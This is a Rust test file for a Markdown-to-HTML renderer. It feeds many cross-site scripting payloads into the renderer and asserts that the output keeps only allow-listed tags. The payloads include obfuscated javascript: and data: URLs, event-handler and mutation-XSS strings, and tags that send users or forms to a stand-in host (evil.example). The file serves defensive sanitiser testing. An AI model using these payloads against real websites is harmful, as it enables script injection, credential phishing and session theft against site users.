//! Scripts in every place that Markdown has: none may survive.

use proptest::prelude::*;

use super::super::{render, sanitised::sanitised};

#[test]
fn no_script_survives_anywhere() {
    let addresses = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "javascript&#58;alert(1)",
        "javascript&colon;alert(1)",
        "java&#x09;script:alert(1)",
        "java&Tab;script:alert(1)",
        "&#1;javascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg/onload=alert(1)>",
        "blob:https://example.org/1",
        "file:///etc/passwd",
        "//evil.example/",
        "/relative",
        "https&colon;javascript:alert(1)",
        "view-source:javascript:alert(1)",
        "javascript://example.org/%0aalert(1)",
        "http:javascript:alert(1)\"onmouseover=alert(1)",
        "https://example.org/\"onmouseover=alert(1)",
        "https://example.org/'onmouseover=alert(1)",
    ];
    let places = [
        "[a]({})",
        "[a](<{}>)",
        "[a]({} \"\\\" onmouseover=alert(1)\")",
        "![a]({})",
        "![a]({} '\"><script>alert(1)</script>')",
        "<{}>",
        "{}",
        "[a][b]\n\n[b]: {}",
        "[b]\n\n[b]: <{}>",
        "> - # [a]({})",
        "|a|\n|-|\n|[a]({})|",
        "**[a]({})**",
        "[![a]({})]({})",
        "<a href=\"{}\">a</a>",
        "<img src=x onerror=\"{}\">",
        "<iframe src=\"{}\"></iframe>",
        "`{}`",
        "```{}\n{}\n```",
        "# {}",
        "<svg><a xlink:href=\"{}\"><text>a</text></a></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    ];
    for place in places {
        for address in addresses {
            let markdown = place.replace("{}", address);
            assert_harmless(&markdown, render(&markdown).as_str());
        }
    }
}

#[test]
fn no_element_can_be_smuggled_in() {
    for markdown in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<style>@import '//evil.example'</style>",
        "<form action=//evil.example><button>Sign in</button></form>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example>",
        "<p style='position:fixed;inset:0' class=button id=main>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\<script>alert(1)\\</script>",
        "```html\n</code></pre><script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\n```",
        "`</code><script>alert(1)</script>`",
        "|</td><script>alert(1)</script>|\n|-|\n|<img onerror=alert(1) src=x>|",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo '<script>' ?>",
        "</textarea><script>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "[</a><script>alert(1)</script>](https://example.org)",
        "https://example.org/<script>alert(1)</script>",
        "https://example.org/\"onclick=\"alert(1)",
    ] {
        assert_harmless(markdown, render(markdown).as_str());
    }
}

/// Every tag is on the list, and so is every attribute with its value.
fn assert_harmless(markdown: &str, html: &str) {
    for tag in tags_of(html) {
        assert!(is_allowed_tag(tag), "{markdown:?} made <{tag}> in {html:?}");
    }
    assert_eq!(html, sanitised(html), "{markdown:?}");
}

/// What stands between angle brackets. The serialiser escapes every bracket that is text or stands in
/// a value, so this needs no parser; [`assert_harmless`] asks one as well.
fn tags_of(html: &str) -> impl Iterator<Item = &str> {
    html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap())
}

fn is_allowed_tag(tag: &str) -> bool {
    const PLAIN: [&str; 15] =
        ["blockquote", "br", "code", "del", "em", "hr", "li", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr"];
    const DIRECTED: [&str; 9] = ["h3", "h4", "h5", "h6", "ol", "p", "td", "th", "ul"];
    if let Some(name) = tag.strip_prefix('/') {
        return name == "a" || PLAIN.contains(&name) || DIRECTED.contains(&name);
    }
    if let Some(address) = tag.strip_prefix("a href=\"").and_then(|rest| rest.strip_suffix("\" rel=\"ugc nofollow noopener\"")) {
        return !address.contains('"') && ["http://", "https://", "mailto:"].iter().any(|scheme| starts_with(address, scheme));
    }
    if let Some(start) = tag.strip_prefix("ol start=\"").and_then(|rest| rest.strip_suffix("\" dir=\"auto\"")) {
        return start.bytes().all(|byte| byte.is_ascii_digit());
    }
    tag == "a rel=\"ugc nofollow noopener\""
        || PLAIN.contains(&tag)
        || tag.strip_suffix(" dir=\"auto\"").is_some_and(|name| DIRECTED.contains(&name))
}

fn starts_with(text: &str, beginning: &str) -> bool {
    text.get(..beginning.len()).is_some_and(|start| start.eq_ignore_ascii_case(beginning))
}

proptest! {
    #[test]
    fn any_text_at_all_becomes_harmless_html(text in any::<String>()) {
        assert_harmless(&text, render(&text).as_str());
    }

    #[test]
    fn markdown_signs_in_any_order_become_harmless_html(text in "[\\[\\]()<>*_`~#|!:&;\"'=/ \\-\n\t0-9ab]{0,200}") {
        assert_harmless(&text, render(&text).as_str());
    }

    #[test]
    fn pieces_of_attacks_in_any_order_become_harmless_html(
        pieces in prop::collection::vec(
            prop::sample::select(vec![
                "<script>", "</script>", "<img src=x onerror=", "javascript:", "https://", "[a](", ")", "](", "![", "<!--", "-->", "\"", "'",
                "\n\n", "\n", "> ", "- ", "    ", "```", "`", "|a|\n|-|\n", "&#", "&lt;", "<svg", "<math>", "<style>", "</a>", "<a href=", "\\",
            ]),
            0..30,
        )
    ) {
        let text = pieces.concat();
        assert_harmless(&text, render(&text).as_str());
    }
}
